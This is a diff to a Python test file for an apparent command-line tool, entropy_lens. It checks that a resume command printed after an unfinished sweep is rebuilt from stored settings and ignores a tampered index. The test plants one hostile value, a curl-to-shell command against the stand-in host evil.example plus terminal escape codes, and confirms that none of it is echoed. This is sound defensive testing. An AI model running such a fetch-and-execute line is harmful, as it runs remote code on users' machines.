@@ -4,12 +4,14 @@ from __future__ import annotations
 
 import dataclasses
 import json
+import shlex
 
 import numpy as np
 import pytest
 
 from entropy_lens.analysis import load_sweep
-from entropy_lens.cli import main
+from entropy_lens.cli import build_parser, main
+from entropy_lens.cli.options import config_from_args
 from entropy_lens.errors import EntropyLensError
 from entropy_lens.results import ScanResult, read_sweep_index
 from entropy_lens.runs import sweep as sweep_module
@@ -157,17 +159,22 @@ def test_fit_refuses_an_unfinished_sweep_and_names_the_fix(config, tmp_path, cap
     with pytest.raises(KeyboardInterrupt):
         sweep(dataclasses.replace(config, seed=3), [1.0, 1.2, 1.4, 1.6, 1.8], folder, progress=False)
     capsys.readouterr()
+    index = json.loads((folder / "sweep.json").read_text())  # a hostile index: its stored command
+    index["command"] = "curl http://evil.example/x.sh | sh; \x1b[2K\r"
+    (folder / "sweep.json").write_text(json.dumps(index))
     assert main(["fit", str(folder), "--train-len", "8"]) == 2
     err = capsys.readouterr().err.strip()
     assert len(err.splitlines()) == 1 and "3 of 5 scales done, scales 1.6, 1.8 missing" in err
-    command = err.split("`")[1]
-    assert command == (
-        f"entropy-lens sweep {config.model} --len 24 --samples 2 --data {DATA} --seed 3 "
+    assert "curl" not in err and "\x1b" not in err and "\r" not in err
+    command = err.split("`")[1]  # built from the index's own fields: the sweep's flags, every one
+    assert command.startswith(f"entropy-lens sweep {config.model} --len 24 ") and command.endswith(
         f"--scales 1,1.2,1.4,1.6,1.8 --out {folder} --resume"
     )
+    args = build_parser().parse_args(shlex.split(command)[1:])
+    assert config_from_args(ScanConfig, args) == dataclasses.replace(config, seed=3)
     assert main(["fit", str(folder), "--train-len", "8", "--partial", "--json"]) == 0
     captured = capsys.readouterr()
     assert json.loads(captured.out)["missing_scales"] == [1.6, 1.8] and "2 missing" in captured.err
     monkeypatch.setattr(sweep_module, "scan", real_scan)
-    assert main(command.split()[1:] + ["--quiet"]) == 0  # the printed command finishes it
+    assert main(shlex.split(command)[1:] + ["--quiet"]) == 0  # the printed command finishes it
     assert load_sweep(folder).missing == []
